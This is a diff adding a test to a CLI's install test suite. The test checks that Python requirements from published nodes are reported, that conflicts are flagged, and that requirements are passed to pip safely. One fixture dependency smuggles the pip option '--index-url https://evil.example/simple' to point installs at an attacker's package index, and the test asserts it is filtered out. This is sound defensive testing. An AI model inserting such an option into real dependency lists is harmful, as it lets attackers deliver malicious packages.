@@ -2,7 +2,14 @@ import assert from 'node:assert/strict';
 import { mkdir, readFile, readdir, rm, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { after, test } from 'node:test';
-import { makePublisher, publishActive, publishFiles, uniqueId } from '../../../server/test/support/build.ts';
+import {
+  makePublisher,
+  publication,
+  publishActive,
+  publishFiles,
+  uniqueId,
+  zip,
+} from '../../../server/test/support/build.ts';
 import { startServer } from '../../../server/test/support/start-server.ts';
 import { suite } from '../../../server/test/support/variants.ts';
 import { type Cli, openCli } from '../support/open-cli.ts';
@@ -55,6 +62,42 @@ suite('patchbay install', async () => {
       },
     });
     assert.deepEqual(await readdir(join(cli.nodes, '.patchbay.disabled')), ['held.db']);
+  });
+
+  test('what the nodes need of Python is said, with conflicts and the command; --with-deps runs it', async (t) => {
+    const [one, other] = [uniqueId('needs'), uniqueId('needs')];
+    const publish = async (id: string, dependencies: string[]) => {
+      const body = { ...publication(ada.token, '1.0.0'), node_version: { version: '1.0.0', dependencies } };
+      const { json } = await ada.owner.post(`/publishers/ada/nodes/${id}/versions`, body);
+      assert.equal((await server.anonymous.upload(json.signedUrl, await zip({ 'a.py': '' }))).status, 200);
+      await server.settle();
+    };
+    await publish(one, ['numpy==1.26.4', 'torch>=2', '--index-url https://evil.example/simple']);
+    await publish(other, ['NumPy == 2.0', 'torch>=2']);
+    const cli = await open(t);
+    const { code, stdout } = await cli.run(['install', one, other]);
+    assert.equal(code, 0);
+    assert.match(stdout, new RegExp(`^ {2}torch>=2 +${one}, ${other}$`, 'm'));
+    assert.match(stdout, /^conflict {2}numpy cannot be all of numpy==1\.26\.4 .* and NumPy == 2\.0/m);
+    assert.match(stdout, /^ {2}python -m pip install numpy==1\.26\.4 'torch>=2' 'NumPy == 2\.0'$/m);
+    assert.doesNotMatch(stdout, /pip install.*--index-url/, 'nothing from a registry is an option of pip');
+
+    const again = await open(t);
+    const [python, seen] = [join(again.cwd, 'python'), join(again.cwd, 'seen')];
+    await writeFile(python, `#!/bin/sh\nprintf '%s\\n' "$@" > '${seen}'\n`, { mode: 0o755 });
+    const env = { PYTHON: python };
+    const done = await again.json(['install', one, '--with-deps'], { env });
+    assert.equal(done.code, 0, done.stdout);
+    assert.deepEqual(done.result.data.nodes[0].requirements, [
+      'numpy==1.26.4',
+      'torch>=2',
+      '--index-url https://evil.example/simple',
+    ]);
+    assert.equal(await readFile(seen, 'utf8'), '-m\npip\ninstall\nnumpy==1.26.4\ntorch>=2\n');
+    await writeFile(python, '#!/bin/sh\nexit 3\n', { mode: 0o755 });
+    const failed = await again.json(['install', other, '--with-deps'], { env });
+    assert.deepEqual([failed.code, failed.result.error.code], [1, 'requirements_failed']);
+    assert.match(failed.result.error.message, /The nodes are installed.*pip ended with 3/);
   });
 
   test('in a terminal: a line for each node', async (t) => {
